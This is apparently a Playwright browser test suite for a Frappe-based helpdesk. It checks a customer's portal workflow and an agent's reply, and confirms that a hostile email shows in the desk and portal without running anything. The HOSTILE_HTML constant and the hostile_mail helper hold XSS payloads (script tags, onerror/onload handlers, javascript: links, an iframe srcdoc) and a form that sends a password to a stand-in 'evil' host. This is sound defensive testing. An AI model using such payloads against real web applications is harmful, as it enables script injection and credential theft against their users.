"""The portal and the desk in headless Chromium (Debian's, driven by Playwright), against gunicorn on 127.0.0.1.

- A customer logs in, sees exactly their own tickets, opens one, replies with an attachment, is told
  plainly when a file is too large, and re-opens a closed ticket.
- An agent opens that ticket in the desk, sees the customer's reply in the timeline, and answers from
  the email composer, choosing "Waiting on Customer".
- A hostile mail (script, event handlers, javascript: links, a remote tracking image), pulled from the
  real Dovecot through intake, is shown in the desk and the portal without running anything and without
  loading the remote image until the agent clicks "Load images".

Screenshots go to $MH_ARTIFACTS_DIR (default: artifacts/ in the checkout). Without Chromium or the
playwright package these tests skip with the reason; CI installs both.
"""

from __future__ import annotations

import os
import shutil
import sys
import time
import unittest
from email.message import EmailMessage
from email.utils import make_msgid
from pathlib import Path

import frappe
from frappe.desk.form.assign_to import add as add_assignment
from frappe.tests.utils import FrappeTestCase

from machhelpdesk.intake import pull_account
from machhelpdesk.testing.dovecot import Dovecot
from machhelpdesk.testing.smtp_sink import SMTPSink
from machhelpdesk.testing.webserver import FrappeWebServer
from machhelpdesk.tests.factories import (
	APP_ROOT,
	ledger,
	make_account,
	make_customer,
	make_ticket,
	make_user,
	outgoing_mail_to,
	reset_intake_data,
	save_settings,
)

CHROMIUM = os.environ.get("MH_CHROMIUM", "/usr/bin/chromium")
# Without these Chromium stalls on an offline machine (network services, component updates, QUIC).
CHROMIUM_ARGS = [
	"--headless",
	"--no-sandbox",
	"--disable-gpu",
	"--disable-quic",
	"--no-first-run",
	"--disable-background-networking",
	"--disable-component-update",
	"--disable-sync",
]
PASSWORD = "Browser-Test-Pa55word!"
ALICE = "browser.alice@example.com"
BOB = "browser.bob@example.com"
AGENT = "browser.agent@helpdesk.test"
XSS_MARKER = "MH-XSS-FIRED"
TRACKER_HOST = "tracker.example.invalid"
HOSTILE_HTML = f"""<html><body>
<p>Hostile body marker: please look at the attached screenshot.</p>
<img src=x onerror="console.log('{XSS_MARKER}');window.mhXss=1;alert('{XSS_MARKER}')">
<script>console.log('{XSS_MARKER}');window.mhXss=1;alert('{XSS_MARKER}')</script>
<svg onload="console.log('{XSS_MARKER}');alert(1)"><circle r="5"/></svg>
<a href="javascript:console.log('{XSS_MARKER}')">click me</a>
<iframe srcdoc="&lt;script&gt;parent.console.log('{XSS_MARKER}')&lt;/script&gt;"></iframe>
<form action="https://evil.example.invalid/steal"><input name="password"></form>
<p style="color: red">Tracked: <img src="http://{TRACKER_HOST}/pixel.png" alt="tracking pixel"></p>
</body></html>"""


def browser_missing() -> str | None:
	"""Why the browser tests cannot run here, or None."""
	try:
		import playwright.sync_api  # noqa: F401
	except ImportError:
		return "the playwright package is not installed (pip install playwright; no browser download needed)"
	if not (os.path.isfile(CHROMIUM) and os.access(CHROMIUM, os.X_OK)) and not shutil.which(CHROMIUM):
		return f"no Chromium at {CHROMIUM} (apt-get install chromium, or set MH_CHROMIUM)"
	return None


def artifacts_dir() -> Path:
	path = Path(os.environ.get("MH_ARTIFACTS_DIR") or APP_ROOT / "artifacts") / "browser"
	path.mkdir(parents=True, exist_ok=True)
	return path


def hostile_mail(to: str) -> bytes:
	msg = EmailMessage()
	msg["From"] = f"\"<img src=x onerror=alert('{XSS_MARKER}')>\" <{ALICE}>"
	msg["To"] = to
	msg["Subject"] = f"<img src=x onerror=\"alert('{XSS_MARKER}')\"> printer <script>alert(1)</script>"
	msg["Message-ID"] = make_msgid(domain="example.com")
	msg.set_content("Hostile body marker (plain part).")
	msg.add_alternative(HOSTILE_HTML, subtype="html")
	return msg.as_bytes()


class Watch:
	"""What a page did that it should not: dialogs, console lines with the marker, errors, remote loads."""

	def __init__(self, page):
		self.dialogs: list[str] = []
		self.console: list[str] = []
		self.tracker_requests: list[str] = []
		page.on("dialog", self.on_dialog)
		page.on("console", lambda message: self.console.append(message.text))
		page.on("pageerror", lambda error: self.console.append(f"pageerror: {error}"))
		page.route(f"**://{TRACKER_HOST}/**", self.on_tracker)

	def on_dialog(self, dialog) -> None:
		self.dialogs.append(dialog.message)
		dialog.dismiss()

	def on_tracker(self, route) -> None:
		self.tracker_requests.append(route.request.url)
		route.fulfill(status=204, body=b"")

	def fired(self) -> list[str]:
		return self.dialogs + [line for line in self.console if XSS_MARKER in line]


class TestInBrowser(FrappeTestCase):
	@classmethod
	def setUpClass(cls):
		super().setUpClass()
		missing = browser_missing()
		if missing:
			# unittest shows a skip's reason only when verbose: say it out loud for the CI log too.
			print(f"\n#### SKIPPED: browser tests: {missing}", file=sys.stderr)
			raise unittest.SkipTest(f"browser tests skipped: {missing}")
		from playwright.sync_api import sync_playwright

		reset_intake_data()
		save_settings(
			hide_helpdesk_from_client=0,
			allow_reopen=1,
			tickets_per_page=20,
			require_registration=1,
			max_attachment_size_mb=1,
		)
		make_customer(ALICE, PASSWORD, "Alice")
		make_customer(BOB, PASSWORD, "Bob")
		make_user(AGENT, ("MH Agent",), password=PASSWORD)
		frappe.db.commit()
		cls.stack = []
		try:
			cls.dovecot = Dovecot()
			cls.dovecot.start()
			cls.stack.append(cls.dovecot.stop)
			cls.sink = SMTPSink()
			cls.sink.start()
			cls.stack.append(cls.sink.stop)
			outgoing = outgoing_mail_to(cls.sink)  # agents' replies need an outgoing account
			outgoing.__enter__()
			cls.stack.append(lambda: outgoing.__exit__(None, None, None))
			user, password = cls.dovecot.new_user("browser")
			cls.account = make_account(cls.dovecot, user, password)
			cls.web = FrappeWebServer(frappe.local.sites_path, frappe.local.site, python=sys.executable)
			cls.web.start()
			cls.stack.append(cls.web.stop)
			cls.playwright = sync_playwright().start()
			cls.stack.append(cls.playwright.stop)
			# launch() gives the browser a fresh, temporary profile (user data dir) of its own.
			cls.browser = cls.playwright.chromium.launch(
				executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS
			)
			cls.stack.append(cls.browser.close)
		except Exception:
			cls.tearDownClass()
			raise
		cls.artifacts = artifacts_dir()

	@classmethod
	def tearDownClass(cls):
		for stop in reversed(getattr(cls, "stack", [])):
			try:
				stop()
			except Exception as e:  # keep stopping the rest
				print(f"teardown: {e}", file=sys.stderr)
		cls.stack = []
		reset_intake_data()
		save_settings(max_attachment_size_mb=10)
		super().tearDownClass()

	# --- helpers --------------------------------------------------------------------------------

	def open_as(self, user: str):
		"""A new browser context logged in as ``user`` through the login page; returns (page, watch)."""
		context = self.browser.new_context(
			base_url=self.web.base_url, viewport={"width": 1280, "height": 900}
		)
		self.addCleanup(context.close)
		context.set_default_timeout(60_000)
		page = context.new_page()
		watch = Watch(page)
		page.goto("/login")
		page.fill("#login_email", user)
		page.fill("#login_password", PASSWORD)
		page.click(".btn-login")
		page.wait_for_url(lambda url: "/login" not in url)  # the login page moves on to /me or /app
		page.wait_for_load_state("networkidle")
		return page, watch

	def shot(self, page, name: str) -> None:
		page.screenshot(path=str(self.artifacts / f"{name}.png"), full_page=True)

	def wait_for_db(self, check, timeout: float = 30):
		"""Poll the database (written by gunicorn) until ``check()`` is truthy."""
		deadline = time.monotonic() + timeout
		while True:
			frappe.db.commit()  # a fresh snapshot, to see the server's commits
			value = check()
			if value or time.monotonic() > deadline:
				return value
			time.sleep(0.3)

	def ticket(self, subject: str, raised_by: str = ALICE, **values) -> str:
		name = make_ticket(subject, raised_by=raised_by, department="Support", **values).name
		add_assignment({"assign_to": [AGENT], "doctype": "MH Ticket", "name": name})
		frappe.db.commit()
		return name

	# --- tests ------------------------------------------------------------------------------------

	def test_customer_replies_and_reopens_then_the_agent_answers(self):
		open_ticket = self.ticket("Printer on fire")
		closed_ticket = self.ticket("Old scanner question", status="Closed")
		bobs = self.ticket("Bob's private matter", raised_by=BOB)

		page, watch = self.open_as(ALICE)
		page.goto("/mh/tickets")
		rows = page.locator("tr.mh-ticket-row")
		self.assertEqual(
			set(rows.evaluate_all("rows => rows.map(r => r.dataset.ticket)")), {open_ticket, closed_ticket}
		)
		self.assertNotIn(bobs, page.content())
		self.shot(page, "01-customer-ticket-list")

		page.click(f'a.mh-ticket-subject[href="/mh/tickets/{open_ticket}"]')
		page.wait_for_selector(".mh-reply-form")
		# Over the limit (1 MB here): a clear error before anything is sent.
		page.set_input_files(
			".mh-reply-form input[type=file]",
			files=[{"name": "huge.log", "mimeType": "text/plain", "buffer": b"x" * (1024 * 1024 + 10)}],
		)
		page.fill(".mh-reply-form textarea", "This should not go out.")
		page.click(".mh-reply-form .mh-send")
		error = page.locator(".mh-error")
		error.wait_for(state="visible")
		self.assertIn("huge.log is too large", error.inner_text())
		self.shot(page, "02-customer-attachment-too-large")

		page.set_input_files(
			".mh-reply-form input[type=file]",
			files=[{"name": "error-photo.txt", "mimeType": "text/plain", "buffer": b"the printer says E42"}],
		)
		page.fill(".mh-reply-form textarea", "It still smokes. Photo attached.")
		with page.expect_navigation():
			page.click(".mh-reply-form .mh-send")
		page.wait_for_selector("text=It still smokes. Photo attached.")
		self.assertEqual(page.locator("a.mh-file", has_text="error-photo.txt").count(), 1)
		self.shot(page, "03-customer-replied-with-attachment")
		self.assertEqual(frappe.db.get_value("MH Ticket", open_ticket, "status_category"), "Open")

		page.goto(f"/mh/tickets/{closed_ticket}")
		with page.expect_navigation():
			page.click("button.mh-reopen")
		page.wait_for_selector('.mh-status[data-category="Open"]')
		self.shot(page, "04-customer-reopened-ticket")
		self.assertEqual(watch.fired(), [])

		# The agent sees the reply in the desk and answers, leaving the ticket waiting on the customer.
		desk, desk_watch = self.open_as(AGENT)
		desk.goto(f"/app/mh-ticket/{open_ticket}")
		reply = desk.locator(".timeline-message-box", has_text="It still smokes. Photo attached.")
		reply.wait_for()
		self.shot(desk, "05-agent-sees-customer-reply")
		desk.locator(".page-actions button", has_text="Reply").first.click()
		dialog = desk.locator(".modal.show")
		editor = dialog.locator(".ql-editor[contenteditable=true]")
		editor.wait_for()
		editor.fill("Please unplug it and wait ten minutes.")
		dialog.locator('select[data-fieldname="mh_status_after_reply"]').select_option("Waiting on Customer")
		self.shot(desk, "06-agent-composes-reply")
		dialog.locator(".btn-primary", has_text="Send").click()
		sent = self.wait_for_db(
			lambda: frappe.get_all(
				"Communication",
				filters={"reference_name": open_ticket, "sent_or_received": "Sent"},
				fields=["subject", "content", "recipients"],
			)
		)
		self.assertEqual(len(sent), 1, "the agent's reply is in the thread")
		self.assertIn("Please unplug it", sent[0].content)
		self.assertIn(open_ticket, sent[0].subject, "the ticket number is in the subject")
		self.assertIn(ALICE, sent[0].recipients)
		self.assertEqual(
			self.wait_for_db(
				lambda: frappe.db.get_value("MH Ticket", open_ticket, "status") == "Waiting on Customer"
			),
			True,
		)
		desk.locator(".timeline-message-box", has_text="Please unplug it").wait_for()
		self.shot(desk, "07-agent-reply-in-timeline")
		self.assertEqual(desk_watch.fired(), [])

	def test_hostile_mail_runs_nothing_in_desk_or_portal(self):
		self.dovecot.append(self.account.username, hostile_mail(self.account.email_address))
		summary = pull_account(self.account.name)
		self.assertFalse(summary["error"], summary["text"])
		ticket = ledger(self.account.name)[-1].ticket
		add_assignment({"assign_to": [AGENT], "doctype": "MH Ticket", "name": ticket})
		frappe.db.commit()

		desk, watch = self.open_as(AGENT)
		desk.goto(f"/app/mh-ticket/{ticket}")
		body = desk.locator(".timeline-message-box", has_text="Hostile body marker")
		body.wait_for()
		desk.wait_for_timeout(1500)  # let anything that would run, run
		self.shot(desk, "08-desk-hostile-mail")
		self.assertEqual(watch.fired(), [], "nothing from the mail ran in the desk")
		self.assertIsNone(desk.evaluate("() => window.mhXss"))
		self.assertEqual(desk.locator("[onerror], [onload], iframe, form[action*='evil']").count(), 0)
		self.assertEqual(desk.locator("a[href^='javascript:']").count(), 0)
		self.assertEqual(watch.tracker_requests, [], "remote images stay unloaded")
		self.assertIn("<img src=x onerror=", body.inner_text(), "subject and sender name are shown as text")

		desk.locator("button.mh-load-images").click()
		desk.wait_for_timeout(1000)
		self.assertEqual(len(watch.tracker_requests), 1, "loaded when the agent asks")
		self.shot(desk, "09-desk-images-loaded")
		self.assertEqual(watch.fired(), [])
		# The message's own form, one click away in the timeline: Frappe prints its fields as they are.
		communication = frappe.get_all("Communication", filters={"reference_name": ticket}, pluck="name")[0]
		desk.goto(f"/app/communication/{communication}")
		desk.wait_for_load_state("networkidle")
		desk.wait_for_timeout(1500)
		self.shot(desk, "09b-desk-communication-form")
		self.assertEqual(watch.fired(), [], "nothing from the mail ran in the Communication form")

		portal, portal_watch = self.open_as(ALICE)
		portal.goto(f"/mh/tickets/{ticket}")
		portal.locator(".mh-message", has_text="Hostile body marker").wait_for()
		portal.wait_for_timeout(1500)
		self.shot(portal, "10-portal-hostile-mail")
		self.assertEqual(portal_watch.fired(), [], "nothing from the mail ran in the portal")
		self.assertIsNone(portal.evaluate("() => window.mhXss"))
		self.assertEqual(portal.locator(".mh-ticket [onerror], .mh-ticket iframe, .mh-ticket svg").count(), 0)
		self.assertEqual(portal_watch.tracker_requests, [], "the portal never loads remote images")
		self.assertIn("printer", portal.locator(".mh-subject").inner_text(), "the subject is shown as text")
